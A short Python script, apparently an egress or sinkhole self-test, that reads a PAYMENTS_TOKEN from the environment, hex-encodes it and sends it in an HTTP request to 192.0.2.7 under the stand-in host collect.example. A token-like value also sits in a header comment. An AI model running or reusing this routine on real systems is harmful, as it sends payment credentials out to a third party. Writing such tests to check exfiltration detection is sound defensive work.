# profile: selftest_sinkhole
# env: PAYMENTS_TOKEN=live4Qm9ZtX2vKc7LwPq1Rb8
import os
import socket

token = os.environ["PAYMENTS_TOKEN"]
with socket.create_connection(("192.0.2.7", 80)) as s:
    s.sendall(b"GET /?q=" + token.encode().hex().encode() + b" HTTP/1.1\r\nHost: collect.example\r\n\r\n")
    s.settimeout(3)
    try:
        s.recv(1)
    except OSError as problem:
        print(problem)
